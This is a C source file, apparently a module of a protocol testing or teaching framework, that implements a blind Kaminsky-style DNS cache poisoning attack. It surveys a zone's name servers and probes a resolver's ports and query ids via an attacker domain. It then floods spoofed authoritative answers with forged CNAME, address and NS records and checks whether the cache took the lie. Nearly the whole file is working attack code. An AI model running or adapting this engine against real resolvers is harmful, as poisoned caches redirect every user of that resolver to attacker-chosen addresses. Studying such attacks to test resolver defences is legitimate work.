/* SPDX-License-Identifier: GPL-3.0-or-later */
/* dns-attack-poison.c - the verb "poison": forged answers from who cannot see the queries
 *
 * The attack of Dan Kaminsky (2008). A name that nobody has asked for is in no cache, so that the
 * resolver must ask, as often as the attacker likes; and each time the attacker's answers race with
 * the true one. What it has to guess is whatever the resolver draws by chance: the id, the port,
 * the case of letters. First it finds out whose answers to forge, and by queries for a domain of
 * its own, what the resolver's queries look like.
 */
#include "dns.h"

#include "dns-attack.h"

#define SERVERS_MAX 4
#define PROBES      2
#define PORT_FIRST  1024u /* RFC 5452 §9.2 */
#define TTL         86400u
#define PATIENCE    (5 * MG_SECONDS)
#define ID_STRIDE   64u /* two ids that are no further apart are counted */

enum {
    R_QUESTION,
    R_SURVEYED,
    R_LOST,
    R_FIXED_PORT,
    R_RANDOM_PORT,
    R_COUNTED_ID,
    R_MIXED_CASE,
    R_BLIND,
    R_POISONED,
    R_FAILED,
    R_NO_WIRE
};

static const MgRule rules[] = {
    [R_QUESTION] = {"dns.poison-words", MG_SEVERITY_WARN, NULL,
                    N_("This is no name, no IP address, or no number of tries, so that nothing is "
                       "done.")},
    [R_SURVEYED] = {"dns.poison-surveyed", MG_SEVERITY_CHAT, "RFC 5452 §4.4",
                    N_("Everybody may know which name servers a zone has. Now the attacker knows "
                       "whose answers to forge.")},
    [R_LOST] = {"dns.poison-lost", MG_SEVERITY_WARN, NULL,
                N_("The resolver does not say which servers the zone has: there is nobody whose "
                   "answers could be forged.")},
    [R_FIXED_PORT] = {"dns.poison-fixed-port", MG_SEVERITY_WARN, "RFC 5452 §4.5",
                      N_("The resolver asks from one port, always the same. Two queries for a "
                         "domain of the attacker's have told which.")},
    [R_RANDOM_PORT] = {"dns.poison-random-port", MG_SEVERITY_NOTE, "RFC 5452 §9.2",
                       N_("Each query comes from another port. Who does not see it has to guess "
                          "one of 64,512 ports, too.")},
    [R_COUNTED_ID] = {"dns.poison-counted-id", MG_SEVERITY_FAULT, "RFC 5452 §9.2",
                      N_("The resolver only counts its ids up. Who has seen one knows those that "
                         "come.")},
    [R_MIXED_CASE] = {"dns.poison-mixed-case", MG_SEVERITY_NOTE, "draft-vixie-dnsext-dns0x20 §2",
                      N_("The letters of the name are large and small by chance, and an answer has "
                         "to repeat them: every letter doubles what must be guessed.")},
    [R_BLIND] = {"dns.poison-blind", MG_SEVERITY_NOTE, "RFC 5452 §4.5",
                 N_("The attacker saw none of the resolver's queries, so that it has to guess the "
                    "port, too.")},
    [R_POISONED] = {"dns.poisoned", MG_SEVERITY_FAULT, "RFC 5452 §3",
                    N_("The cache is poisoned: the resolver believes a forged answer, and gives it "
                       "to whoever asks until its TTL is over.")},
    [R_FAILED] = {"dns.poison-failed", MG_SEVERITY_NOTE, "RFC 5452 §7.2",
                  N_("No forged answer was right in time: the attacker gives up.")},
    [R_NO_WIRE] = {"dns.poison-no-wire", MG_SEVERITY_WARN, "RFC 2827 §3",
                   N_("Nothing can be sent here with another's address.")},
    {0},
};

static const char fresh[] = N_("new"), surveying[] = N_("surveying"), probing[] = N_("probing"),
                  flooding[] = N_("flooding"), checking[] = N_("checking"),
                  poisoned[] = N_("poisoned"), failed[] = N_("failed");

static const MgTransition transitions[] = {
    {fresh, N_("the words make sense"), surveying, NULL},
    {fresh, N_("the words make no sense"), failed, NULL},
    {surveying, N_("the zone's servers are known, and there is a domain of its own"), probing,
     "RFC 5452 §4.4"},
    {surveying, N_("the zone's servers are known"), flooding, "RFC 5452 §4.4"},
    {surveying, N_("the zone's servers are not known"), failed, NULL},
    {probing, N_("it has seen what the queries look like"), flooding, "RFC 5452 §4.5"},
    {probing, N_("no try is left"), failed, NULL},
    {flooding, N_("one more name, one more race"), flooding, "RFC 5452 §4.1"},
    {flooding, N_("an answer is the forged one"), checking, "RFC 5452 §4.6"},
    {flooding, N_("no try is left"), failed, "RFC 5452 §7.2"},
    {checking, N_("the cache gives the forged address"), poisoned, "RFC 5452 §3"},
    {checking, N_("the cache gives another address"), flooding, NULL},
    {checking, N_("the cache gives another address, and no try is left"), failed, NULL},
    {0},
};

static const MgSettingRow settings[] = {
    {"flood", MG_SETTING_UINT, "100", N_("How many forged answers are sent in one race.")},
    {"attacker-domain", MG_SETTING_TEXT, NULL,
     N_("A domain whose name server is reached through this host: a query for it shows what the "
        "resolver's queries look like.")},
    {0},
};

/* What is being asked of the resolver. */
typedef enum { ASK_SOA, ASK_NS, ASK_ADDRESS, ASK_PROBE, ASK_RANDOM, ASK_CHECK } Asks;

typedef struct {
    uint16_t port, id;
    bool mixed;
} Seen;

typedef struct {
    MgEngine base;
    const char *state;
    uint64_t seed;
    MgDnsName name, zone, domain; /* domain: its own; len 0 if it has none */
    MgDnsLieAddress lie;
    char resolver[64], lie_text[64];
    unsigned flood, tries, tries_max;
    uint64_t sent;
    double missed; /* the chance that all that was sent so far has missed */
    /* the survey */
    MgDnsName ns[SERVERS_MAX];
    char servers[SERVERS_MAX][64];
    unsigned n_ns, n_servers, ns_asked;
    /* the probes */
    Seen seen[PROBES];
    unsigned n_probes, n_seen;
    bool fixed_port, counted, mixed;
    /* the open asks */
    Asks asks;
    MgAskId ask, hearing, forging, last_ask;
    MgDnsName random; /* the name that is asked for */
    unsigned left;    /* forged answers of this race */
    MgDatagramQuestion question;
    MgOverhearQuestion overhear;
    MgForgeQuestion forgery;
    uint8_t query[MG_DNS_HEADER + MG_DNS_NAME_MAX + 4];
    uint8_t forged[MG_DNS_UDP_PLAIN];
    MgDnsEvents events;
} Poison;

static void enter(Poison *poison, const char *to)
{
    mg_dns_events_enter(&poison->events, poison->base.kind, &poison->state, to);
}

static void note(Poison *poison, unsigned rule)
{
    mg_dns_events_note(&poison->events, &rules[rule], (MgSpan){NULL, 0});
}

static void finish(Poison *poison, const char *state, unsigned rule)
{
    note(poison, rule);
    enter(poison, state);
    poison->left = 0;
    mg_dns_events_add(&poison->events, (MgEvent){.kind = MG_EVENT_CLOSE});
}

/* ---- asking the resolver ---- */

static void ask(Poison *poison, Asks asks, const MgDnsName *name, uint16_t type)
{
    MgDnsWriter writer;
    uint16_t id = (uint16_t)mg_random_next(&poison->seed);
    mg_dns_writer_init(&writer, poison->query, sizeof poison->query);
    mg_dns_write_header(&writer, id, MG_DNS_RD);
    mg_dns_write_question(&writer, mg_dns_name_span(name), type, MG_DNS_IN);
    poison->asks = asks;
    poison->question =
        (MgDatagramQuestion){.address = poison->resolver,
                             .port = 53,
                             .payload = {poison->query, writer.len},
                             .timeout = PATIENCE,
                             .dissector = "dns",
                             .echoes = {{0, 2}, {MG_DNS_HEADER, (uint16_t)(name->len + 4)}}};
    poison->ask = ++poison->last_ask;
    mg_dns_events_add(&poison->events,
                      (MgEvent){.kind = MG_EVENT_ASK,
                                .ask = {poison->ask, MG_TOPIC_DATAGRAM, &poison->question, 0}});
}

/* A name that is in no cache: twelve letters by chance, below `domain`. False if it is too long. */
static bool make_random(Poison *poison, const MgDnsName *domain)
{
    uint64_t bits = mg_random_next(&poison->seed);
    uint8_t wire[MG_DNS_NAME_MAX + 13] = {12};
    if (domain->len + 13u > MG_DNS_NAME_MAX)
        return false;
    for (unsigned i = 1; i <= 12; i++, bits >>= 5)
        wire[i] = (uint8_t)('a' + bits % 26);
    memcpy(wire + 13, domain->wire, domain->len);
    mg_dns_name_set(&poison->random, (MgSpan){wire, domain->len + 13u});
    return true;
}

/* ---- the races ---- */

static double space(const Poison *poison)
{
    double n = poison->counted ? poison->flood : 65536;
    if (!poison->fixed_port)
        n *= 65536 - PORT_FIRST;
    for (unsigned i = 0; poison->mixed && i < poison->random.len; i += 1u + poison->random.wire[i])
        for (unsigned j = i + 1; j <= i + poison->random.wire[i]; j++)
            n *= g_ascii_isalpha(poison->random.wire[j]) ? 2 : 1;
    return n;
}

/* The query leaves first: the resolver has asked when the first forged answer is there. */
static void race(Poison *poison)
{
    if (poison->tries == poison->tries_max || !make_random(poison, &poison->zone)) {
        finish(poison, failed, R_FAILED);
        return;
    }
    enter(poison, flooding);
    poison->tries++;
    ask(poison, ASK_RANDOM, &poison->random, mg_dns_lie_type(&poison->lie));
    poison->left = poison->flood;
    poison->missed *= 1 - MIN(poison->flood / space(poison), 1);
}

static uint16_t guess_id(Poison *poison)
{
    /* Since the last probe the resolver has asked once for each race, and perhaps a little more. */
    if (poison->counted)
        return (uint16_t)(poison->seen[PROBES - 1].id + poison->tries +
                          (poison->flood - poison->left));
    return (uint16_t)mg_random_next(&poison->seed);
}

static uint16_t guess_port(Poison *poison)
{
    if (poison->fixed_port)
        return poison->seen[0].port;
    return (uint16_t)(PORT_FIRST + mg_random_next(&poison->seed) % (65536 - PORT_FIRST));
}

static void mix_case(Poison *poison, MgDnsName *name)
{
    for (unsigned i = 0; i < name->len; i += 1u + name->wire[i])
        for (unsigned j = i + 1; j <= i + name->wire[i]; j++)
            if (g_ascii_isalpha(name->wire[j]) && (mg_random_next(&poison->seed) >> 63) != 0)
                name->wire[j] ^= 0x20;
}

/* All that it says is of the zone that the pretended server may speak for: the name is an alias of
 * the one that is meant, that one has this address, and so has the zone's name server. Resolvers
 * differ in which of these they believe. */
static void forge(Poison *poison, MgEvent *event)
{
    MgDnsWriter writer;
    MgDnsName name = poison->random;
    uint16_t type = mg_dns_lie_type(&poison->lie);
    MgSpan lie = mg_dns_lie_data(&poison->lie), target = mg_dns_name_span(&poison->name);
    MgSpan zone = mg_dns_name_span(&poison->zone), ns = mg_dns_name_span(&poison->ns[0]);
    if (poison->mixed)
        mix_case(poison, &name);
    const MgDnsMessage query = {
        .id = guess_id(poison), .name = name, .type = type, .class = MG_DNS_IN};
    mg_dns_writer_init(&writer, poison->forged, sizeof poison->forged);
    mg_dns_lie_begin(&writer, &query, MG_DNS_AA);
    mg_dns_write_record(&writer, MG_DNS_ANSWER, mg_dns_name_span(&name), MG_DNS_CNAME, TTL, target);
    mg_dns_write_record(&writer, MG_DNS_ANSWER, target, type, TTL, lie);
    if (mg_dns_name_is_under(ns, zone) && !mg_dns_name_equal(ns, target)) {
        mg_dns_write_record(&writer, MG_DNS_AUTHORITY, zone, MG_DNS_NS, TTL, ns);
        mg_dns_write_record(&writer, MG_DNS_ADDITIONAL, ns, type, TTL, lie);
    }
    poison->forgery =
        (MgForgeQuestion){.from_address = poison->servers[poison->left % poison->n_servers],
                          .from_port = 53,
                          .to_address = poison->resolver,
                          .to_port = guess_port(poison),
                          .payload = {poison->forged, writer.len},
                          .dissector = "dns"};
    poison->left--;
    poison->sent++;
    poison->forging = ++poison->last_ask;
    *event = (MgEvent){.kind = MG_EVENT_ASK,
                       .ask = {poison->forging, MG_TOPIC_FORGE, &poison->forgery, 0}};
}

/* ---- the probes ---- */

static void hear(Poison *poison)
{
    poison->overhear = (MgOverhearQuestion){53};
    poison->hearing = ++poison->last_ask;
    mg_dns_events_add(&poison->events,
                      (MgEvent){.kind = MG_EVENT_ASK,
                                .ask = {poison->hearing, MG_TOPIC_OVERHEAR, &poison->overhear, 0}});
}

static void stop_hearing(Poison *poison)
{
    if (poison->hearing != 0)
        mg_dns_events_add(&poison->events,
                          (MgEvent){.kind = MG_EVENT_CANCEL, .cancel = poison->hearing});
    poison->hearing = 0;
}

static void judge(Poison *poison)
{
    const Seen *a = &poison->seen[0], *b = &poison->seen[1];
    if (poison->n_seen < PROBES) {
        note(poison, R_BLIND);
        return;
    }
    poison->fixed_port = a->port == b->port;
    poison->counted = (uint16_t)(b->id - a->id) <= ID_STRIDE && b->id != a->id;
    poison->mixed = a->mixed || b->mixed;
    note(poison, poison->fixed_port ? R_FIXED_PORT : R_RANDOM_PORT);
    if (poison->counted)
        note(poison, R_COUNTED_ID);
    if (poison->mixed)
        note(poison, R_MIXED_CASE);
}

static void probe(Poison *poison)
{
    if (poison->domain.len == 0 || poison->n_probes == PROBES ||
        !make_random(poison, &poison->domain)) {
        judge(poison);
        race(poison);
        return;
    }
    if (poison->state != probing)
        enter(poison, probing);
    poison->n_probes++;
    hear(poison);
    ask(poison, ASK_PROBE, &poison->random, MG_DNS_A);
}

static void take_heard(Poison *poison, const MgOverhearAnswer *answer)
{
    MgDnsMessage query;
    if (answer == NULL)
        return;
    if (strcmp(answer->from_address, poison->resolver) != 0 ||
        !mg_dns_message_open(&query, answer->payload) || (query.flags & MG_DNS_QR) != 0 ||
        !mg_dns_name_equal(mg_dns_name_span(&query.name), mg_dns_name_span(&poison->random))) {
        hear(poison);
        return;
    }
    Seen *seen = &poison->seen[poison->n_seen++];
    *seen = (Seen){.port = answer->from_port, .id = query.id};
    for (unsigned i = 0; i < query.name.len; i++)
        seen->mixed = seen->mixed || query.name.wire[i] != poison->random.wire[i];
}

/* ---- the resolver's answers ---- */

static bool has_lie(const Poison *poison, MgDnsMessage *message)
{
    MgDnsRecord record;
    MgSpan lie = mg_dns_lie_data(&poison->lie);
    while (mg_dns_message_next(message, &record))
        if (record.section == MG_DNS_ANSWER && record.type == mg_dns_lie_type(&poison->lie) &&
            record.data_len == lie.len &&
            memcmp(message->reader.data + record.data_at, lie.data, lie.len) == 0)
            return true;
    return false;
}

/* The SOA record stands in the answer at the zone's beginning, else in the authority section. */
static void take_soa(Poison *poison, MgDnsMessage *message)
{
    MgDnsRecord record;
    while (mg_dns_message_next(message, &record))
        if (record.type == MG_DNS_SOA) {
            poison->zone = record.name;
            ask(poison, ASK_NS, &poison->zone, MG_DNS_NS);
            return;
        }
    finish(poison, failed, R_LOST);
}

static void take_ns(Poison *poison, MgDnsMessage *message)
{
    MgDnsRecord record;
    while (mg_dns_message_next(message, &record) && poison->n_ns < SERVERS_MAX) {
        MgDnsReader reader = {
            .data = message->reader.data, .len = message->reader.len, .at = record.data_at};
        if (record.section != MG_DNS_ANSWER || record.type != MG_DNS_NS)
            continue;
        mg_dns_read_name(&reader, &poison->ns[poison->n_ns]);
        poison->n_ns += !reader.bad;
    }
}

static void take_address(Poison *poison, MgDnsMessage *message)
{
    MgDnsRecord record;
    while (mg_dns_message_next(message, &record) && poison->n_servers < SERVERS_MAX) {
        g_autoptr(GString) text = g_string_new(NULL);
        if (record.section != MG_DNS_ANSWER || record.type != MG_DNS_A || record.data_len != 4)
            continue;
        mg_dns_data_format(MG_DNS_A, (MgSpan){message->reader.data + record.data_at, 4}, text);
        g_strlcpy(poison->servers[poison->n_servers++], text->str, sizeof poison->servers[0]);
    }
}

static void next_address(Poison *poison)
{
    if (poison->ns_asked < poison->n_ns) {
        ask(poison, ASK_ADDRESS, &poison->ns[poison->ns_asked++], MG_DNS_A);
    } else if (poison->n_servers == 0) {
        finish(poison, failed, R_LOST);
    } else {
        note(poison, R_SURVEYED);
        probe(poison);
    }
}

static void take(Poison *poison, MgDnsMessage *message)
{
    switch (poison->asks) {
    case ASK_SOA:
        take_soa(poison, message);
        break;
    case ASK_NS:
        take_ns(poison, message);
        next_address(poison);
        break;
    case ASK_ADDRESS:
        take_address(poison, message);
        next_address(poison);
        break;
    case ASK_PROBE:
        stop_hearing(poison);
        probe(poison);
        break;
    case ASK_RANDOM:
        if (has_lie(poison, message)) {
            enter(poison, checking);
            ask(poison, ASK_CHECK, &poison->name, mg_dns_lie_type(&poison->lie));
        } else {
            race(poison);
        }
        break;
    case ASK_CHECK:
        if (has_lie(poison, message))
            finish(poison, poisoned, R_POISONED);
        else
            race(poison);
        break;
    }
}

static bool answer(MgEngine *engine, MgAskId id, const void *given, MgTime now)
{
    Poison *poison = (Poison *)engine;
    const MgDatagramAnswer *datagram = given;
    MgDnsMessage message = {.flags = 0}; /* no answer is an empty one */
    if (id == 0)
        return false;
    if (id == poison->hearing) {
        poison->hearing = 0;
        take_heard(poison, given);
        return true;
    }
    if (id == poison->ask) {
        poison->ask = 0;
        if (datagram == NULL || datagram->reach != MG_REACH_OK ||
            !mg_dns_message_open(&message, datagram->payload))
            message = (MgDnsMessage){.flags = 0};
        take(poison, &message);
        return true;
    }
    if (id != poison->forging)
        return false;
    poison->forging = 0;
    if (given == NULL && poison->left > 0)
        finish(poison, failed, R_NO_WIRE);
    return true;
}

/* ---- the words ---- */

static bool read_number(const char *text, unsigned *out)
{
    char *end = NULL;
    guint64 number = g_ascii_strtoull(text, &end, 10);
    if (!g_ascii_isdigit(text[0]) || *end != '\0' || number == 0 || number > 1000000)
        return false;
    *out = (unsigned)number;
    return true;
}

/* NAME at SERVER with ADDRESS [tries N] */
static bool read_words(Poison *poison, const MgVerbCall *call)
{
    MgDnsLieAddress resolver;
    if (call == NULL || call->n_words < 5 ||
        mg_dns_name_parse(mg_span_from_string(call->words[0]), NULL, &poison->name) != NULL ||
        strcmp(call->words[0], "@") == 0 || !mg_dns_lie_parse(call->words[2], &resolver) ||
        !mg_dns_lie_parse(call->words[4], &poison->lie) ||
        (call->n_words > 6 && !read_number(call->words[6], &poison->tries_max)))
        return false;
    g_strlcpy(poison->resolver, call->words[2], sizeof poison->resolver);
    g_strlcpy(poison->lie_text, call->words[4], sizeof poison->lie_text);
    return true;
}

static MgEngine *create(const MgBirth *birth)
{
    Poison *poison = g_new0(Poison, 1);
    const char *domain = mg_settings_get(birth->settings, "attacker-domain", NULL);
    poison->base.kind = &mg_dns_poison;
    poison->state = fresh;
    poison->seed = birth->seed;
    poison->missed = 1;
    poison->tries_max = 20;
    poison->flood =
        (unsigned)CLAMP(mg_settings_get_uint(birth->settings, "flood", 100), 1, 1000000);
    if (domain != NULL &&
        mg_dns_name_parse(mg_span_from_string(domain), NULL, &poison->domain) != NULL)
        poison->domain.len = 0;
    if (read_words(poison, birth->question)) {
        enter(poison, surveying);
        ask(poison, ASK_SOA, &poison->name, MG_DNS_SOA);
    } else {
        finish(poison, failed, R_QUESTION);
    }
    return &poison->base;
}

static void free_poison(MgEngine *engine)
{
    g_free(engine);
}

static bool next(MgEngine *engine, MgEvent *event)
{
    Poison *poison = (Poison *)engine;
    if (mg_dns_events_next(&poison->events, event))
        return true;
    if (poison->left == 0 || poison->forging != 0)
        return false;
    forge(poison, event);
    return true;
}

static size_t facts(const MgEngine *engine, MgFact *out, size_t max)
{
    const Poison *poison = (const Poison *)engine;
    g_autoptr(GString) text = g_string_new(NULL);
    size_t n = 0;
    if (poison->name.len > 0) {
        mg_dns_name_format(mg_dns_name_span(&poison->name), text);
        g_string_append_printf(text, " → %s", poison->lie_text);
        mg_dns_lie_fact(out, max, &n, N_("Lie"), text->str);
    }
    if (poison->tries > 0) {
        g_string_printf(text, "%u / %u", poison->tries, poison->tries_max);
        mg_dns_lie_fact(out, max, &n, N_("Races"), text->str);
        g_string_printf(text, "%" G_GUINT64_FORMAT, poison->sent);
        mg_dns_lie_fact(out, max, &n, N_("Forged answers"), text->str);
        g_string_printf(text, "1 : %.0f", space(poison));
        mg_dns_lie_fact(out, max, &n, N_("Odds of one"), text->str);
        g_string_printf(text, "%.4g %%", 100 * (1 - poison->missed));
        mg_dns_lie_fact(out, max, &n, N_("Odds of all"), text->str);
    }
    return n;
}

const MgEngineKind mg_dns_poison = {
    .name = "dns.poison",
    .summary = N_("Poisons a resolver's cache by forged answers, blindly"),
    .usual = "attacker",
    .verb = "poison",
    .usage = "poison NAME at SERVER with ADDRESS [tries N]",
    .dissector = "dns",
    .settings = settings,
    .rules = rules,
    .transitions = transitions,
    .create = create,
    .free = free_poison,
    .answer = answer,
    .next = next,
    .facts = facts,
};
